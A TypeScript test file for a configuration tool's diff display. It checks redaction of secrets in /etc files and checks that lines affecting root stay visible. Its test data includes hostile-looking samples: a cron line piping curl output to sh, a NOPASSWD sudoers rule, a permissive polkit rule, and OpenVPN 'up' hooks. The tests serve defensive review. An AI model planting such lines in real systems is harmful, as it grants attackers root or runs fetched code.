import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import type { Change } from '../../../src/state/areas/base/change.ts';
import { compareLines } from '../../../src/state/areas/transaction/compare-lines.ts';
import { differenceOf } from '../../../src/state/areas/transaction/difference.ts';
import { machineWith, type TestFile } from '../support/machine.ts';
import { items } from './support/fake-areas.ts';
import { Scene } from './support/scene.ts';

const file = (path: string, text: string | Uint8Array, mode = 0o644): Change => ({
  kind: 'file',
  path,
  content: Buffer.from(text as string),
  mode,
  uid: 0,
  gid: 0,
});

test('what changes is shown line by line, and what is made, removed or led elsewhere in one', (t) => {
  const machine = machineWith(t, {
    '/etc/hosts': 'one\ntwo\nthree\nfour\n',
    '/etc/gone': 'last words\n',
    '/etc/localtime': { link: 'UTC' },
    '/etc/mode': { content: '', mode: 0o600 },
  });
  const changes: Change[] = [
    file('/etc/hosts', 'one\n2\nthree\nfour\nfive\n'),
    file('/etc/new', 'new\n', 0o755),
    { kind: 'remove', path: '/etc/gone' },
    { kind: 'link', path: '/etc/localtime', target: 'Berlin' },
    { kind: 'metadata', path: '/etc/mode', mode: 0o644, uid: 1, gid: 2 },
    { kind: 'folder', path: '/etc/folder', mode: 0o750, uid: 0, gid: 0 },
    file('/etc/binary', Buffer.from([0, 1, 2])),
  ];
  assert.deepEqual(differenceOf(changes, machine), [
    '/etc/hosts: mode 0644, owner 0:0',
    '- two',
    '+ 2',
    '+ five',
    '/etc/new: a new file, mode 0755, owner 0:0',
    '+ new',
    '/etc/gone: removed',
    '- last words',
    '/etc/localtime: a link to Berlin (was a link to UTC)',
    '/etc/mode: mode 0644, owner 1:2 (was mode 0600, owner 0:0)',
    '/etc/folder: a new folder, mode 0750, owner 0:0',
    '/etc/binary: a new file, mode 0644, owner 0:0',
    '  binary, 0 bytes before, 3 bytes after',
  ]);
});

const SECRET_FILES: [string, TestFile, string][] = [
  ['/etc/shadow', { content: 'ann:$y$old:1\n', mode: 0o640 }, 'ann:$y$HUSH:2\n'],
  ['/etc/NetworkManager/system-connections/home.nmconnection', 'psk=old\n', 'psk=HUSH\n'],
  ['/etc/cups/printers.conf', 'DeviceURI smb://ann:old@host/p\n', 'DeviceURI smb://ann:HUSH@host/p\n'],
  ['/etc/app.conf', 'password "old"\n', 'password "HUSH"\n'],
  ['/etc/app.xml', '<token>old</token>\n', '<token>HUSH</token>\n'],
  ['/etc/private.conf', { content: 'old\n', mode: 0o600 }, 'HUSH\n'],
  ['/etc/some.pem', 'x\n', '-----BEGIN OPENSSH PRIVATE KEY-----\nHUSH\n'],
  ['/etc/passwd', 'ann:x:1\n', 'ann:$6$HUSH$HUSH:1\n'],
  ['/etc/cron.d/job', 'PASSWORD=old\n', 'PASSWORD=HUSH\n* * * * * root run\n'],
  ['/etc/fstab', '', '//s/x /mnt cifs password=HUSH,uid=1 0 0\n'],
  ['/etc/openvpn/client/x.conf', 'client\n', 'client\n<auth-user-pass>\nann\nHUSH\n</auth-user-pass>\n'],
  ['/etc/openvpn/x.conf', '<key>\nold\n</key>\n', '<key>\nHUSH\n</key>\nnobind\n'],
  [
    '/etc/network/interfaces',
    'auto lo\n',
    'iface w inet dhcp\n  wpa-ssid Lab\n  wpa-psk HUSH\n  wireless-key1 s:HUSH\n',
  ],
  ['/etc/apt/auth.conf.d/x.conf', '', 'machine example.org login ann password HUSH\n'],
  ['/etc/apt/sources.list', '', 'deb https://ann:HUSH@example.org/ x main\n'],
];

for (const [path, old, young] of SECRET_FILES) {
  test(`nothing secret of ${path} is shown`, (t) => {
    const machine = machineWith(t, { [path]: old });
    const shown = differenceOf([file(path, young, machine.facts(path)!.mode)], machine).join('\n');
    assert.equal(shown.includes('HUSH'), false, shown);
    assert.match(shown, /lines added, \d+ removed|\(not shown\)/);
  });
}

test('what makes people root, and what root runs, is shown whatever words are in it', (t) => {
  const machine = machineWith(t, {});
  for (const [path, line] of [
    ['/etc/sudoers.d/x', 'ann ALL=(ALL) NOPASSWD: ALL # password=x'],
    ['/etc/cron.d/x', 'TOKEN=$(curl evil|sh)'],
    ['/etc/systemd/system/x.service', 'ExecStart=/bin/sh -c "evil" # secret'],
    ['/etc/profile.d/x.sh', 'password=`evil`'],
    ['/etc/network/interfaces.d/x', '  post-up evil wpa-psk # key'],
    ['/etc/openvpn/x.conf', 'up /bin/evil # key'],
    ['/etc/polkit-1/rules.d/x.rules', 'return polkit.Result.YES; // token = 1'],
  ] as const) {
    assert.equal(differenceOf([file(path, `${line}\n`, 0o440)], machine)[1], `+ ${line}`);
  }
});

test('nothing that OpenVPN would run hides where passwords stand', (t) => {
  const machine = machineWith(t, {});
  const text = '<key>\nHUSH\nup /bin/evil\n"up"/bin/evil\n<ca>\n</key>\nplugin /x.so\n';
  assert.deepEqual(differenceOf([file('/etc/openvpn/x.conf', text, 0o644)], machine).slice(1), [
    '+ <key>',
    '+ (not shown)',
    '+ up /bin/evil',
    '+ "up"/bin/evil',
    '+ (not shown)',
    '+ </key>',
    '+ plugin /x.so',
  ]);
});

test('nothing that a terminal would obey is shown, nor a line or a list without end', (t) => {
  const machine = machineWith(t, {});
  const [, first] = differenceOf([file('/etc/x', 'a\u001b[2Jb\u202ec\u0085\td\r\n')], machine);
  assert.equal(first, '+ a\\u{1b}[2Jb\\u{202e}c\\u{85}  d\\u{d}');
  const long = differenceOf([file('/etc/x', `${'y'.repeat(5000)}\n`)], machine);
  assert.equal(long[1]!.length, 300);
  const many = differenceOf([file('/etc/x', 'line\n'.repeat(5000))], machine);
  assert.deepEqual([many.length, many.at(-1)], [201, '… and 4801 more lines']);
});

test('the difference of what is withheld for its effect is in the plan, so that it can be judged', (t) => {
  const [item] = items({ kind: 'file', path: '/etc/sudoers.d/ann', text: 'ann ALL=ALL\n', mode: 0o440 });
  const documents = { environment: [{ ...item!, effect: 'sudoers' as const }] };
  const transaction = new Scene(t, { documents }).plan();
  transaction.close();
  const [withheld] = transaction.plan.withheld;
  assert.deepEqual(withheld?.paths, []);
  assert.deepEqual(withheld?.difference, ['/etc/sudoers.d/ann: a new file, mode 0440, owner 0:0', '+ ann ALL=ALL']);
});

const lines = fc.array(fc.constantFrom('a', 'b', 'c', 'd', ''), { maxLength: 12 });

test('the lines that stay are in both, in order; and where the longest common part is short, it is found', () => {
  fc.assert(
    fc.property(lines, lines, (old, young) => {
      const changes = compareLines(old, young);
      const gone = changes.filter(({ sign }) => sign === '-').map(({ line }) => line);
      const come = changes.filter(({ sign }) => sign === '+').map(({ line }) => line);
      assert.equal(old.length - gone.length, young.length - come.length);
      assert.equal(old.length - gone.length, commonLength(old, young));
      assert.ok(isPartOf(gone, old) && isPartOf(come, young));
    }),
  );
});

function commonLength([a, ...as]: string[], bs: string[], known = new Map<string, number>()): number {
  if (a === undefined || bs.length === 0) return 0;
  const key = `${as.length} ${bs.length}`;
  const found =
    known.get(key) ??
    (a === bs[0]
      ? 1 + commonLength(as, bs.slice(1), known)
      : Math.max(commonLength(as, bs, known), commonLength([a, ...as], bs.slice(1), known)));
  known.set(key, found);
  return found;
}

function isPartOf(part: readonly string[], whole: readonly string[]): boolean {
  let at = 0;
  for (const line of whole) if (line === part[at]) at += 1;
  return at === part.length;
}
